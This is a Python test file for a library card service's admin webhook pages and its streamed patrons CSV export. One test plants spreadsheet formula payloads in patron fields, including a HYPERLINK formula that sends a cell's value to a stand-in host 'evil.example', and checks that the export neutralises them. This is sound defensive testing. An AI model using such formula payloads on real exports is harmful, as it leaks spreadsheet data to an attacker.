"""The administrators' events page over HTTP: add an endpoint (a bad address is a clear
error with the typed text kept; the secret is shown once), send a test message that a real
receiver verifies, see a failed message with its last error and send it again; nobody but
an administrator gets in. And the patrons-and-cards CSV: BOM, header, ISO dates, streamed."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import insert, select, update

from cardservice.cards.lifecycle import ReissueReason, reissue_card
from cardservice.cards.models import Card
from cardservice.cards.service import get_card
from cardservice.events import export, routes, service
from cardservice.events.delivery import WebhookRelay
from cardservice.events.models import DeliveryStatus, WebhookDelivery, WebhookEndpoint
from cardservice.patrons.models import Patron
from cardservice.security.secrets import app_secrets
from cardservice.services import Services
from cardservice.staff.models import AuditEntry, Role
from cardservice.web.i18n import gettext
from tests.factories import make_card
from tests.web_support import (
    Client,
    csrf_from,
    login,
    make_staff,
    web_client,
    with_free_catcher_port,
)
from tests.webhook_receiver import Receiver, webhook_receiver


@pytest.fixture
async def admin(services: Services) -> AsyncIterator[Client]:
    await make_staff(services, "kanri", Role.ADMIN, display_name="管理 太郎")
    async with web_client(with_free_catcher_port(services.settings), mail=False) as client:
        await login(client, "kanri")
        yield client


async def _actions(services: Services) -> list[str]:
    async with services.db.read() as session:
        actions = await session.scalars(select(AuditEntry.action).order_by(AuditEntry.id))
        return [a for a in actions if a.startswith(("webhook.", "export."))]


async def test_only_administrators_get_in(services: Services, admin: Client) -> None:
    home = await admin.get("/staff")
    assert 'href="/staff/webhooks"' in home.text
    await make_staff(services, "sato", Role.REVIEWER)
    async with web_client(with_free_catcher_port(services.settings), mail=False) as other:
        assert (await other.get("/staff/webhooks")).status_code == 303  # to the login page
        await login(other, "sato")
        assert 'href="/staff/webhooks"' not in (await other.get("/staff")).text
        for path in ("/staff/webhooks", "/staff/exports/patrons.csv"):
            refused = await other.get(f"{path}?lang=en")
            assert refused.status_code == 403
            assert "Only administrators can manage webhooks" in refused.text


async def _add_endpoint(services: Services, admin: Client, receiver: Receiver) -> str:
    """Add ``receiver`` on the page (after a refused address); its page's path."""
    page = await admin.get("/staff/webhooks?lang=en")
    assert page.status_code == 200
    token = csrf_from(page.text)
    bad = await admin.post(
        "/staff/webhooks",
        data={"url": "ftp://ils.example.org/in", "description": "本館", "_csrf_token": token},
    )
    assert bad.status_code == 400
    assert "must be an http:// or https:// address" in bad.text
    assert 'value="ftp://ils.example.org/in"' in bad.text  # nothing typed is lost
    # A text field (the server's message, in the page's language, not the browser's own
    # check), styled as the others, with the URL keyboard on a phone.
    assert 'type="text" inputmode="url"' in bad.text
    assert 'value="本館"' in bad.text
    assert 'aria-invalid="true"' in bad.text
    in_japanese = await admin.post(
        "/staff/webhooks?lang=ja",
        data={"url": "mailto:ils@example.org", "_csrf_token": token},
    )
    assert in_japanese.status_code == 400
    assert "http:// または https:// のアドレス" in in_japanese.text
    switched = await admin.post(
        "/staff/webhooks?lang=en",
        data={"url": "https://ils.example.org/in", "_lang_switch": "1", "_csrf_token": token},
    )
    assert switched.status_code == 200  # the form in English, as typed; nothing added
    assert 'value="https://ils.example.org/in"' in switched.text
    assert "Add the endpoint" in switched.text

    created = await admin.post(
        "/staff/webhooks",
        data={"url": receiver.url, "description": "本館", "_csrf_token": token},
    )
    assert created.status_code == 200
    assert created.headers["cache-control"] == "no-store"
    secret = re.search(r'value="(whsec_[A-Za-z0-9+/=]+)"', created.text)
    assert secret is not None
    receiver.secret = secret.group(1)
    # No language switch on the page that shows it once: the other language could not.
    assert 'class="lang-switch"' not in created.text
    async with services.db.read() as session:
        endpoint = await session.scalar(select(WebhookEndpoint))
    assert endpoint is not None
    assert receiver.secret.encode() not in endpoint.secret_blob
    listing = await admin.get("/staff/webhooks")
    assert receiver.url in listing.text
    assert receiver.secret not in listing.text  # shown once, never again
    assert 'class="lang-switch"' in listing.text
    detail = await admin.get(f"/staff/webhooks/{endpoint.id}")
    assert receiver.secret not in detail.text
    again = await admin.post(  # the form sent twice (the page reloaded): no second endpoint
        "/staff/webhooks", data={"url": receiver.url, "_csrf_token": token}
    )
    assert again.status_code == 400
    assert "There is already an endpoint with this address." in again.text
    return f"/staff/webhooks/{endpoint.id}"


async def test_an_endpoint_is_added_tested_and_its_log_shown(
    services: Services, admin: Client
) -> None:
    async with webhook_receiver() as receiver:
        detail_path = await _add_endpoint(services, admin, receiver)
        detail = await admin.get(detail_path)

        sent = await admin.post(f"{detail_path}/test", data={"_csrf_token": csrf_from(detail.text)})
        assert sent.status_code == 303
        assert sent.headers["location"] == f"{detail_path}?done=test"
        relay = WebhookRelay(services.db, app_secrets(services.settings).document_key)
        assert await relay.run_once() == 1
        (test_message,) = receiver.verified()
        assert test_message["type"] == "webhook.test"
        log = await admin.get(detail_path)
        assert "Delivered" in log.text
        assert "Attempts: 1 of 12" in log.text

        await _failed_then_sent_again(services, admin, receiver, detail_path)
        renewed = await admin.post(
            f"{detail_path}/secret", data={"_csrf_token": csrf_from(log.text)}
        )
        assert renewed.status_code == 200
        assert renewed.headers["cache-control"] == "no-store"
        fresh = re.search(r'value="(whsec_[A-Za-z0-9+/=]+)"', renewed.text)
        assert fresh is not None
        assert fresh.group(1) != receiver.secret
        receiver.secret = fresh.group(1)
        await admin.post(f"{detail_path}/test", data={"_csrf_token": csrf_from(log.text)})
        assert await relay.run_once() == 1
        assert receiver.received[-1].verified  # signed with the new secret
        disabled = await admin.post(
            f"{detail_path}/disable", data={"_csrf_token": csrf_from(log.text)}
        )
        assert disabled.headers["location"] == f"{detail_path}?done=disabled"
        assert "Disabled" in (await admin.get(detail_path)).text
        missing = await admin.get("/staff/webhooks/999999")
        assert missing.status_code == 404
        assert "There is no such webhook endpoint." in missing.text
    assert await _actions(services) == [
        "webhook.create",
        "webhook.test",
        "webhook.retry",
        "webhook.new_key",
        "webhook.test",
        "webhook.disable",
    ]


async def _failed_then_sent_again(
    services: Services, admin: Client, receiver: Receiver, detail_path: str
) -> None:
    """A receiver that fails: the message stays visible with its last error, and is sent
    again from the page."""
    receiver.mode = "fail"
    await make_card(services)
    relay = WebhookRelay(services.db, app_secrets(services.settings).document_key)
    assert await relay.run_once() == 0  # attempt 1 of 12: waiting, its error shown
    log = await admin.get(detail_path)
    assert "Last error: HTTP 500 Internal Server Error" in log.text
    assert "Next attempt:" in log.text
    assert "Waiting: 1" in (await admin.get("/staff/webhooks")).text
    in_japanese = await admin.get(f"{detail_path}?lang=ja")  # a message's state, not a queue's
    assert "patron.registered</code>、送信待ち" in in_japanese.text
    assert "待ち日数" not in in_japanese.text
    await admin.get(f"{detail_path}?lang=en")
    async with services.db.transaction() as session:  # due again now
        await session.execute(update(WebhookDelivery).values(next_attempt_at=datetime.now(UTC)))
    failing = WebhookRelay(services.db, relay.key, max_attempts=1)
    assert await failing.run_once() == 0
    log = await admin.get(detail_path)
    assert "Failed" in log.text
    assert "Last error: HTTP 500 Internal Server Error" in log.text
    async with services.db.read() as session:
        failed = await session.scalar(
            select(WebhookDelivery).where(WebhookDelivery.status == DeliveryStatus.FAILED)
        )
    assert failed is not None
    assert f"/staff/webhooks/deliveries/{failed.id}/retry" in log.text
    summary = await admin.get("/staff/webhooks")
    assert "Failed: 1" in summary.text

    receiver.mode = "ok"
    again = await admin.post(
        f"/staff/webhooks/deliveries/{failed.id}/retry",
        data={"_csrf_token": csrf_from(log.text)},
    )
    assert again.headers["location"] == f"{detail_path}?done=retry"
    assert await relay.run_once() == 1
    assert receiver.verified()[-1]["type"] == "patron.registered"
    conflict = await admin.post(
        f"/staff/webhooks/deliveries/{failed.id}/retry",
        data={"_csrf_token": csrf_from(log.text)},
    )
    assert conflict.status_code == 409
    assert "Only a message that failed can be sent again." in conflict.text


async def _many_cards(services: Services, count: int) -> None:
    """``count`` patrons with a card each, in two bulk statements (no hashing, no ORM)."""
    async with services.db.transaction() as session:
        ids = list(
            await session.scalars(
                insert(Patron).returning(Patron.id),
                [
                    {
                        "family_name": "山田",
                        "given_name": f"花子{n}",
                        "family_kana": "ヤマダ",
                        "given_kana": "ハナコ",
                        "birth_date": date(1990, 4, 1),
                        "email": f"p{n}@example.org",
                        # Long fields: a bigger file from the same number of rows.
                        "street": "港北区日吉本町一丁目" * 6,
                        "building": "みなとみらいグランドタワー" * 4,
                        "workplace_or_school": "横浜市立みなと図書館本館" * 10,
                    }
                    for n in range(count)
                ],
            )
        )
        issued = datetime(2026, 3, 31, 16, 30, tzinfo=UTC)  # 1 April in Japan
        await session.execute(
            insert(Card),
            [
                {
                    "patron_id": patron_id,
                    "user_number": f"9{n:09d}",
                    "expires_on": date(2030, 3, 31),
                    "token_jti": f"jti-{n}",
                    "issued_at": issued,
                }
                for n, patron_id in enumerate(ids)
            ],
        )


ROWS = 4000  # the streaming test's rows, in batches of 50
HTTP_ROWS = 500


async def test_the_csv_export_has_a_bom_a_header_and_iso_dates(
    services: Services, admin: Client
) -> None:
    await _many_cards(services, HTTP_ROWS)
    card = await make_card(services)
    async with services.db.transaction() as session:
        loaded = await get_card(session, card.user_number)
        new = await reissue_card(session, loaded, ReissueReason.LOST, services.policy)
    head = await admin.head("/staff/exports/patrons.csv")  # a probe: no export, no audit
    assert (head.status_code, head.content) == (200, b"")
    assert head.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="patrons-cards.csv"' in head.headers["content-disposition"]
    assert await _actions(services) == []
    response = await admin.get("/staff/exports/patrons.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="patrons-cards.csv"' in response.headers["content-disposition"]
    assert "content-length" not in response.headers  # streamed, not built first
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == export.HEADER
    assert len(rows) == HTTP_ROWS + 3  # the header, the bulk cards, the reissued pair
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["user_number"] == "9000000000"
    assert first["family_name"] == "山田"
    assert first["given_name"] == "花子0"
    assert first["birth_date"] == "1990-04-01"
    assert first["expires_on"] == "2030-03-31"
    assert first["issued_on"] == "2026-04-01"  # the library's date, not UTC's
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", first["registered_on"])
    assert body.count(b"\r\n") == HTTP_ROWS + 3
    by_number = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_number[card.user_number]["card_status"] == "revoked"
    assert by_number[card.user_number]["replaced_by"] == new.user_number
    assert by_number[new.user_number]["card_status"] == "active"
    assert by_number[new.user_number]["replaced_by"] == ""
    assert by_number[new.user_number]["expires_on"] == new.expires_on.isoformat()
    assert await _actions(services) == ["export.patrons_csv"]


async def test_the_csv_is_produced_in_small_chunks_with_flat_memory(
    services: Services, monkeypatch: pytest.MonkeyPatch
) -> None:
    await _many_cards(services, ROWS)
    monkeypatch.setattr(export, "BATCH", 50)  # many batches from few rows
    chunks = export.patron_card_csv(services.db, services.policy.timezone)
    sizes = [len(await anext(chunks)) for _ in range(3)]  # warm: query compiled, cursor open
    tracemalloc.start()
    try:
        start, _ = tracemalloc.get_traced_memory()
        async for chunk in chunks:
            sizes.append(len(chunk))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    total = sum(sizes)
    assert len(sizes) == 1 + ROWS // 50  # the header, then one chunk per batch
    assert max(sizes) <= total / 79  # each chunk one batch of 50 rows
    # What is held at the peak is a small part of the file: the rows are not all kept.
    # Built in memory, the file alone would hold ~3.4 MB; streamed, ~0.5 MB at the peak.
    assert peak - start < total / 3, (peak - start, total)


def test_the_marked_error_messages_are_the_errors_own_and_translated() -> None:
    errors = [
        routes.WebhooksAdminOnly,
        service.WebhookUrlInvalid,
        service.WebhookUrlTaken,
        service.EndpointNotFound,
        service.DeliveryNotFound,
        service.DeliveryNotFailed,
        service.OverlapInvalid,
    ]
    assert [error().message for error in errors] == list(routes.ERROR_MESSAGES)
    for message in routes.ERROR_MESSAGES:
        assert gettext("ja", message) != message


async def test_the_csv_keeps_commas_quotes_and_line_breaks_and_runs_no_formula(
    services: Services, admin: Client
) -> None:
    """Names as typed come back whole through Python's csv reader; a text a spreadsheet
    would run as a formula (= + - @, tab) starts with ' instead; an E.164 phone stays."""
    card = await make_card(services)
    typed = {
        "family_name": '=HYPERLINK("http://evil.example/?x="&A1,"開く")',
        "given_name": "+1+1",
        "family_kana": "-2+3",
        "given_kana": "@SUM(A1:A9)",
        "street": '1-2-3 "港", 横浜\r\n二行目',
        "building": "\tタブ",
        "workplace_or_school": "山田,商店",
        "phone": "+819012345678",
    }
    async with services.db.transaction() as session:
        await session.execute(update(Patron).where(Patron.id == card.patron_id).values(**typed))
    response = await admin.get("/staff/exports/patrons.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert len(rows) == 2
    assert row["family_name"] == "'" + typed["family_name"]
    assert row["given_name"] == "'+1+1"
    assert row["family_kana"] == "'-2+3"
    assert row["given_kana"] == "'@SUM(A1:A9)"
    assert row["building"] == "'\tタブ"
    assert row["street"] == typed["street"]  # quoted, line break and all
    assert row["workplace_or_school"] == "山田,商店"
    assert row["phone"] == "+819012345678"
    assert row["user_number"] == card.user_number
